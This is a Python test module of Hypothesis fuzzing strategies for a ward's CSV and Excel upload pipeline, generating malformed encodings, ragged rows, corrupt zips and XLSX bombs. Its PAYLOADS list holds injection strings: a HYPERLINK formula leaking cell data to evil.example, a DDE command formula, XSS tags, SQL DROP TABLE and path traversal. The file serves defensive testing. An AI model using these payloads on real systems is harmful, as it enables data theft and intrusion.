"""Hypothesis strategies for the files an attacker, a broken PC or a tired clerk sends (issue 11, item 3).

Every strategy draws a `FuzzCase`: the bytes, the feed, the unit that sends it and the file name.
Valid files are written the way the demo ward's units write them (pipelines/demo/: encodings,
delimiters, header spellings, Excel workbooks); the malformed ones start from them or from nothing.
Big inputs (huge cells, tens of thousands of columns, zip bombs) are built from a few drawn
integers, so the choice sequences hypothesis shrinks stay small while the files grow.
"""

from __future__ import annotations

import codecs
import datetime as dt
import functools
import io
import random
import zipfile
from dataclasses import dataclass
from pathlib import Path

from fuzz_xlsx import _CONTENT_TYPES, _header_row, workbook, xlsx_bomb_bytes
from hypothesis import strategies as st

from kernel import contracts as c
from pipelines import demo

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures"
TODAY = dt.date(2026, 11, 29)  # as tests/conftest.py: dates after it are in the future
# The fixture ward (tests/fixtures/ward): its groups with their households, and who sends what.
GROUP_HOUSEHOLDS = {"TDP01": 120, "TDP02": 80, "TDP05": 320}
SENDER = {
    "violations": "CAP",
    "cleanups": "MTDT",
    "sorting_inspections": "MTDT",
    "lighting_repairs": "TTBT",
}
FEEDS = tuple(SENDER)
VALID_FIXTURES = {
    "violations": [
        "violations/utf8_comma.csv",
        "violations/utf8_bom_semicolon_crlf.csv",
        "violations/utf16le_tab.txt",
        "violations/cp1258_semicolon_crlf.csv",
        "violations/multiline_note.csv",
        "violations/rules.csv",
        "violations/excel.xlsx",
    ],
    "cleanups": ["cleanups/rules.csv"],
    "sorting_inspections": ["sorting_inspections/rules.txt", "sorting_inspections/labels_no_unit_column.csv"],
    "lighting_repairs": ["lighting_repairs/rules.csv"],
}

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "<script>alert('xss')</script>",
    '<img src=x onerror="alert(1)">',
    "</td></tr></table><h1>Giả mạo</h1>",
    "{{7*7}}${7*7}",
    "'; DROP TABLE core.violations; --",
    "\u202eexe.fdp\u202c",  # right-to-left override
    "Tổ\u200b 5",  # zero-width space
    "Ngõ 12 Tô Hiệu\r",
    "a\u2028b\u2029c",
    "\ufeffVP-BOM",
    "🧹♻️🌳",
    "%s%s%n%x",
    "../../etc/passwd",
    "NaN",
    "-0",
    "1e309",
    "9" * 40,
    "31/02/2026",
    "0000-00-00",
    "TRUE",
)
TEXTS = ("Ngõ 12 Tô Hiệu", "45 Cầu Đất", "Chợ Ga", "Đã khắc phục", "", "Lan", "Nguyễn Văn Ánh", "Hồ Sen")


@dataclass(frozen=True)
class FuzzCase:
    """One file as a unit would upload it."""

    generator: str
    feed: str
    unit_code: str
    file_name: str
    data: bytes

    def __repr__(self) -> str:  # hypothesis prints this for a failing example
        head = self.data[:120]
        return (
            f"FuzzCase({self.generator!r}, feed={self.feed!r}, unit={self.unit_code!r}, "
            f"file_name={self.file_name!r}, {len(self.data)} bytes, starts {head!r})"
        )

    def _repr_pretty_(self, printer, cycle) -> None:  # hypothesis' printer: never the whole file
        printer.text(repr(self))


# -- valid files, written as the demo's units write them ---------------------------------------------

_dates = st.dates(min_value=c.EARLIEST_DATE, max_value=TODAY)


def _choice(contract: c.Contract, name: str):
    return st.sampled_from([ch.code for ch in contract.column(name).choices])


@st.composite
def record(draw, feed: str, record_id: str) -> dict:
    """One record that keeps every rule of its contract (a view, as demo._table takes it)."""
    contract = c.FEEDS[feed]
    group = draw(st.sampled_from(sorted(GROUP_HOUSEHOLDS)))
    text = st.sampled_from(TEXTS)
    view = {"unit_code": SENDER[feed], "group_code": group, contract.id_column: record_id}
    if feed == "violations":
        detected = draw(_dates)
        action = draw(_choice(contract, "action"))
        fixed = draw(st.none() | st.dates(min_value=detected, max_value=TODAY))
        view |= {
            "detected_on": detected,
            "category": draw(_choice(contract, "category")),
            "action": action,
            "fine_vnd": draw(st.integers(1, 50_000_000)) if action == "fine" else None,
            "resolved_on": fixed,
            "address": draw(text),
            "note": draw(text),
        }
    elif feed == "cleanups":
        view |= {
            "held_on": draw(_dates),
            "kind": draw(_choice(contract, "kind")),
            "participants": draw(st.integers(1, 5000)),
            "waste_kg": draw(st.none() | st.integers(0, 20_000).map(lambda tenths: tenths / 10)),
            "trees_planted": draw(st.none() | st.integers(0, 500)),
            "location": draw(text),
        }
    elif feed == "sorting_inspections":
        checked = draw(st.integers(1, GROUP_HOUSEHOLDS[group]))
        view |= {
            "inspected_on": draw(_dates),
            "households_checked": checked,
            "households_compliant": draw(st.integers(0, checked)),
            "note": draw(text),
        }
    else:
        reported = draw(_dates)
        status = draw(_choice(contract, "status"))
        repaired = draw(st.dates(min_value=reported, max_value=TODAY)) if status == "repaired" else None
        view |= {
            "street": draw(text),
            "lamp_id": draw(st.none() | st.integers(1, 999).map(lambda n: f"TH-{n:03d}")),
            "reported_on": reported,
            "repaired_on": repaired,
            "cause": draw(_choice(contract, "cause")),
            "status": status,
        }
    return view


styles = st.builds(
    demo.Style,
    encoding=st.sampled_from(["utf-8-sig", "utf-8", "utf-16", "cp1258", "xlsx"]),
    delimiter=st.sampled_from([",", ";", "\t"]),
    headers=st.sampled_from(["vi", "ascii", "en"]),
    dates=st.sampled_from(["dmy", "dmy_short", "iso"]),
    enums=st.sampled_from(["label", "code"]),
    vn_numbers=st.booleans(),
    crlf=st.booleans(),
    unit_column=st.booleans(),
    serial=st.booleans(),
    reporter=st.booleans(),
)


def write_file(feed: str, style: demo.Style, views: list[dict]) -> bytes:
    """A feed file in a unit's style (demo.py's writer: the same bytes the demo ward loads)."""
    table = demo._table(c.FEEDS[feed], style, views)
    return demo._serialise(table, style, dt.datetime(2026, 11, 1, 8, 0))


@st.composite
def valid_file(draw, feed: str | None = None, id_prefix: str | None = None, max_rows: int = 12):
    """(feed, style, bytes) of a file every row of which should load."""
    feed = feed or draw(st.sampled_from(FEEDS))
    prefix = id_prefix if id_prefix is not None else draw(st.sampled_from(["VP", "T7", "KT", "CS", "Số"]))
    count = draw(st.integers(1, max_rows))
    views = [draw(record(feed, f"{prefix}-{n:04d}")) for n in range(1, count + 1)]
    style = draw(styles)
    return feed, style, write_file(feed, style, views)


def _name(style: demo.Style | None, stem: str = "bao-cao") -> str:
    return stem + (style.extension if style else ".csv")


def _case(generator: str, feed: str, file_name: str, data: bytes) -> FuzzCase:
    return FuzzCase(generator, feed, SENDER[feed], file_name, data)


@functools.cache
def _fixture(relative: str) -> bytes:
    return (FIXTURES / relative).read_bytes()


@st.composite
def base_file(draw) -> tuple[str, str, bytes]:
    """(feed, file name, bytes) of a valid file: a committed fixture or a freshly written one."""
    if draw(st.booleans()):
        feed = draw(st.sampled_from(FEEDS))
        relative = draw(st.sampled_from(VALID_FIXTURES[feed]))
        return feed, Path(relative).name, _fixture(relative)
    feed, style, data = draw(valid_file())
    return feed, _name(style), data


@st.composite
def text_base(draw) -> tuple[str, str, str]:
    """(feed, delimiter, text) of a valid CSV before encoding, for the encoding attacks."""
    feed = draw(st.sampled_from(FEEDS))
    style = draw(styles.filter(lambda s: s.encoding != "xlsx"))
    style = demo.Style("utf-8", style.delimiter, style.headers, style.dates, style.enums, crlf=style.crlf)
    views = [draw(record(feed, f"R-{n}")) for n in range(1, draw(st.integers(1, 8)) + 1)]
    return feed, style.delimiter, write_file(feed, style, views).decode("utf-8")


# -- the generators ----------------------------------------------------------------------------------


@st.composite
def random_bytes(draw) -> FuzzCase:
    prefix = draw(
        st.sampled_from([b"", codecs.BOM_UTF8, codecs.BOM_UTF16_LE, codecs.BOM_UTF16_BE, b"PK\x03\x04"])
    )
    body = draw(st.binary(max_size=3000))
    name = draw(st.sampled_from(["a.csv", "a.txt", "a.xlsx", "a.xls", "a", "ảnh.png", "../../x.csv"]))
    return _case("random_bytes", draw(st.sampled_from(FEEDS)), name, prefix + body)


@st.composite
def truncated_utf16(draw) -> FuzzCase:
    feed, _, text = draw(text_base())
    codec, bom = draw(
        st.sampled_from([("utf-16-le", codecs.BOM_UTF16_LE), ("utf-16-be", codecs.BOM_UTF16_BE)])
    )
    body = text.replace("\n", "\r\n").encode(codec)
    if draw(st.booleans()):
        body += "😀".encode(codec)  # a surrogate pair, to cut in half
    cut = draw(st.integers(1, len(body)))
    with_bom = draw(st.booleans())
    return _case("truncated_utf16", feed, "bao-cao.txt", (bom if with_bom else b"") + body[:cut])


@st.composite
def mixed_encodings(draw) -> FuzzCase:
    feed, _, text = draw(text_base())
    encoders = [
        lambda s: s.encode("utf-8"),
        demo.encode_cp1258,
        lambda s: s.encode("latin-1", "replace"),
        lambda s: s.encode("utf-16-le"),
        lambda s: s.encode("utf-8", "surrogatepass") + b"\xed\xa0\x80",  # a lone surrogate
        lambda s: s.encode("cp1252", "replace"),
    ]
    lines = text.split("\n")
    out = b"\n".join(encoders[draw(st.integers(0, len(encoders) - 1))](line) for line in lines)
    return _case("mixed_encodings", feed, "bao-cao.csv", out)


@st.composite
def bom_then_cp1258(draw) -> FuzzCase:
    feed, _, text = draw(text_base())
    bom = draw(st.sampled_from([codecs.BOM_UTF8, codecs.BOM_UTF16_LE, codecs.BOM_UTF16_BE]))
    return _case("bom_then_cp1258", feed, "bao-cao.csv", bom + demo.encode_cp1258(text))


@st.composite
def ragged_rows(draw) -> FuzzCase:
    feed, delimiter, text = draw(text_base())
    lines = text.split("\n")
    for _ in range(draw(st.integers(1, 6))):
        i = draw(st.integers(0, len(lines) - 1))
        cells = lines[i].split(delimiter)
        if draw(st.booleans()):
            cells = cells[: draw(st.integers(0, len(cells)))]
        else:
            cells += ["thừa"] * draw(st.integers(1, 40))
        lines[i] = delimiter.join(cells)
    return _case("ragged_rows", feed, "bao-cao.csv", "\n".join(lines).encode("utf-8"))


@st.composite
def unbalanced_quotes(draw) -> FuzzCase:
    feed, _, text = draw(text_base())
    for _ in range(draw(st.integers(1, 4))):
        i = draw(st.integers(0, len(text)))
        quote = draw(st.sampled_from(['"', '"', "'", '""', '"\n', '\\"']))
        text = text[:i] + quote + text[i:]
    encoding = draw(st.sampled_from(["utf-8", "utf-16", "cp1258"]))
    data = demo.encode_cp1258(text) if encoding == "cp1258" else text.encode(encoding)
    return _case("unbalanced_quotes", feed, "bao-cao.csv", data)


@st.composite
def huge_field(draw) -> FuzzCase:
    feed, delimiter, text = draw(text_base())
    size = draw(st.sampled_from([70_000, 1 << 20, 4 << 20, 16 << 20]))
    filler = draw(st.sampled_from(["a", "ạ", " ", "1", '"', "\t", ",,"]))
    cell = filler * (size // len(filler.encode()))
    if draw(st.booleans()):
        cell = '"' + cell.replace('"', '""') + '"'
    lines = text.split("\n")
    i = draw(st.integers(0, len(lines) - 1))
    lines[i] = lines[i] + delimiter + cell if draw(st.booleans()) else cell + delimiter + lines[i]
    return _case("huge_field", feed, "bao-cao.csv", "\n".join(lines).encode("utf-8"))


@st.composite
def many_columns(draw) -> FuzzCase:
    feed, delimiter, text = draw(text_base())
    columns = draw(st.sampled_from([10_000, 30_000, 70_000, 1_000_000]))
    shape = draw(st.sampled_from(["header", "row", "only_delimiters", "no_newline"]))
    wide = delimiter * columns
    lines = text.split("\n")
    if shape == "header":
        lines[0] += wide + "".join(f"{delimiter}c{n}" for n in range(min(columns, 20_000)))
    elif shape == "row":
        lines.insert(1, lines[min(1, len(lines) - 1)] + wide)
    elif shape == "only_delimiters":
        lines = [wide] * draw(st.integers(1, 3))
    else:
        return _case("many_columns", feed, "bao-cao.csv", wide.encode())
    return _case("many_columns", feed, "bao-cao.csv", "\n".join(lines).encode("utf-8"))


@st.composite
def nuls(draw) -> FuzzCase:
    feed, name, data = draw(base_file())
    out = bytearray(data)
    for _ in range(draw(st.integers(1, 8))):
        where = draw(st.sampled_from(["anywhere", "after_4k", "end"]))
        if where == "after_4k":
            # past the first 4 KB, where the reader's binary check does not look
            out += b"\n" + b"a," * 2100 + b"\x00" * draw(st.integers(1, 5))
        elif where == "end":
            out += b"\x00" * draw(st.integers(1, 64))
        else:
            i = draw(st.integers(0, len(out)))
            out[i:i] = b"\x00" * draw(st.integers(1, 4))
    return _case("nuls", feed, name, bytes(out))


@st.composite
def payloads(draw) -> FuzzCase:
    feed = draw(st.sampled_from(FEEDS))
    contract = c.FEEDS[feed]
    views = [draw(record(feed, f"P-{n}")) for n in range(1, draw(st.integers(1, 6)) + 1)]
    style = draw(styles)
    if style.encoding == "cp1258":
        style = demo.Style("utf-8-sig", style.delimiter, style.headers)  # cp1258 cannot hold emoji
    table = demo._table(contract, style, views)
    for row in table.rows:
        for _ in range(draw(st.integers(1, 4))):
            row[draw(st.integers(0, len(row) - 1))] = draw(st.sampled_from(PAYLOADS))
    if draw(st.booleans()):
        table.header[draw(st.integers(0, len(table.header) - 1))] = draw(st.sampled_from(PAYLOADS))
    data = demo._serialise(table, style, dt.datetime(2026, 11, 1))
    return _case("payloads", feed, _name(style), data)


# -- Excel: corrupt zips and bombs -------------------------------------------------------------------


@st.composite
def xlsx_bomb(draw) -> FuzzCase:
    feed = draw(st.sampled_from(FEEDS))
    kind = draw(
        st.sampled_from(["dimension", "far_cell", "far_cell_and_dimension", "huge_cell", "tiny_rows"])
    )
    size = {
        "far_cell_and_dimension": draw(st.sampled_from([100_000, 1_048_576])),
        "huge_cell": draw(st.sampled_from([64, 600])),
        "tiny_rows": draw(st.sampled_from([10, 30])),
    }.get(kind, 0)
    return _case("xlsx_bomb", feed, "bao-cao.xlsx", xlsx_bomb_bytes(kind, feed, size))


@st.composite
def corrupt_zip(draw) -> FuzzCase:
    feed = draw(st.sampled_from(FEEDS))
    kind = draw(st.sampled_from(["flip", "truncate", "no_sheet", "bad_xml", "random_tail", "bad_shared"]))
    if kind in ("flip", "truncate"):
        _, _, data = draw(valid_file(feed=feed, max_rows=4).filter(lambda f: f[1].encoding == "xlsx"))
        out = bytearray(data)
        if kind == "flip":
            for _ in range(draw(st.integers(1, 16))):
                i = draw(st.integers(0, len(out) - 1))
                out[i] ^= draw(st.integers(1, 255))
        else:
            out = out[: draw(st.integers(4, len(out) - 1))]
        data = bytes(out)
    elif kind == "no_sheet":
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as book:
            book.writestr("[Content_Types].xml", _CONTENT_TYPES)
            book.writestr(draw(st.sampled_from(["readme.txt", "xl/workbook.xml"])), "không có sheet")
        data = buffer.getvalue()
    elif kind == "bad_xml":
        junk = draw(
            st.sampled_from(
                ["<row r='2'><c r='A2'", "<c r='ZZZZZZ0'/>", "<!DOCTYPE x [<!ENTITY a 'a'>]>&a;", "\x00"]
            )
        )
        data = workbook([_header_row(feed), junk])
    elif kind == "bad_shared":
        data = workbook([_header_row(feed), '<row r="2"><c r="A2" t="s"><v>99999999</v></c></row>'])
    else:
        data = b"PK\x03\x04" + draw(st.binary(min_size=1, max_size=2000))
    return _case("corrupt_zip", feed, "bao-cao.xlsx", data)


@st.composite
def renamed(draw) -> FuzzCase:
    feed, style, data = draw(valid_file())
    if style.encoding == "xlsx":
        name = draw(st.sampled_from(["bao-cao.csv", "bao-cao.txt", "bao-cao"]))
    else:
        name = draw(st.sampled_from(["bao-cao.xlsx", "bao-cao.xls", "bao-cao.XLSX"]))
    if draw(st.booleans()):
        data = draw(st.sampled_from([b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"PK\x05\x06"])) + data
    return _case("renamed", feed, name, data)


@st.composite
def mutations(draw) -> FuzzCase:
    feed, name, data = draw(base_file())
    out = bytearray(data)
    for _ in range(draw(st.integers(1, 10))):
        op = draw(
            st.sampled_from(["flip", "delete", "insert", "dup_line", "drop_line", "swap_lines", "truncate"])
        )
        if not out:
            break
        i = draw(st.integers(0, len(out) - 1))
        if op == "flip":
            out[i] ^= 1 << draw(st.integers(0, 7))
        elif op == "delete":
            del out[i : i + draw(st.integers(1, 8))]
        elif op == "insert":
            out[i:i] = draw(
                st.sampled_from([b'"', b",", b";", b"\t", b"\r", b"\n", b"\xcc\x81", b"\xff", b"\xc3"])
            )
        elif op == "truncate":
            del out[i:]
        else:
            lines = bytes(out).split(b"\n")
            j = draw(st.integers(0, len(lines) - 1))
            k = draw(st.integers(0, len(lines) - 1))
            if op == "dup_line":
                lines.insert(k, lines[j])
            elif op == "drop_line":
                del lines[j]
            else:
                lines[j], lines[k] = lines[k], lines[j]
            out = bytearray(b"\n".join(lines))
    return _case("mutations", feed, name, bytes(out))


@st.composite
def valid_files(draw) -> FuzzCase:
    feed, style, data = draw(valid_file())
    return _case("valid", feed, _name(style), data)


GENERATORS = {
    "random_bytes": random_bytes(),
    "truncated_utf16": truncated_utf16(),
    "mixed_encodings": mixed_encodings(),
    "bom_then_cp1258": bom_then_cp1258(),
    "ragged_rows": ragged_rows(),
    "unbalanced_quotes": unbalanced_quotes(),
    "huge_field": huge_field(),
    "many_columns": many_columns(),
    "nuls": nuls(),
    "payloads": payloads(),
    "corrupt_zip": corrupt_zip(),
    "xlsx_bomb": xlsx_bomb(),
    "renamed": renamed(),
    "mutations": mutations(),
    "valid": valid_files(),
}
# Share of the examples each generator gets: the slow, repetitive ones (big files) get fewer.
WEIGHTS = {"huge_field": 0.3, "many_columns": 0.3, "xlsx_bomb": 0.1}


@st.composite
def loadable(draw) -> FuzzCase:
    """A file for the end-to-end run: a valid file with record ids of its own, perhaps spoiled."""
    feed, style, data = draw(valid_file(id_prefix=f"E{draw(st.integers(0, 10**6))}"))
    case = _case("valid", feed, _name(style), data)
    spoil = draw(
        st.sampled_from(["none", "none", "mutations", "payloads", "ragged_rows", "nuls", "random_bytes"])
    )
    if spoil == "none":
        return case
    other = draw(GENERATORS[spoil])
    if spoil == "mutations":
        rng = random.Random(draw(st.integers(0, 1 << 30)))
        out = bytearray(data)
        for _ in range(rng.randint(1, 4)):
            if out:
                out[rng.randrange(len(out))] ^= 1 << rng.randrange(8)
        return _case("mutations", feed, case.file_name, bytes(out))
    return FuzzCase(other.generator, other.feed, other.unit_code, other.file_name, other.data)
